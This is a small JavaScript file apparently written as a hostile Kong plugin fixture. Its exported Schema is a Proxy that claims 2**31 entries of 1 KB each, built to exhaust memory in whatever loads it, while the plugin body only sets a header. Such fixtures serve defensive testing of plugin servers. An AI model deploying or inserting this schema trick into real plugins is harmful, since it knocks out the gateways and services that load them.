// Attack: Schema is a Proxy claiming 2**31 entries, each a fresh field of 1 KB.
const schema = new Proxy([], {
  get: (t, k) => (k === 'length' ? 2 ** 31 : typeof k === 'string' && /^\d+$/.test(k) ? { [`f${k}`]: { type: 'string', default: 'P'.repeat(1024) } } : Reflect.get(t, k)),
  getOwnPropertyDescriptor: (t, k) => (k === 'length' ? Reflect.getOwnPropertyDescriptor(t, k) : { value: { [`f${String(k)}`]: { type: 'string', default: 'P'.repeat(1024) } }, enumerable: true, configurable: true, writable: true }),
});
class Plugin {
  async access(kong) {
    await kong.response.setHeader('x-got', '{}');
  }
}
module.exports = { Plugin, Version: '1.0.0', Priority: 1, Schema: schema };
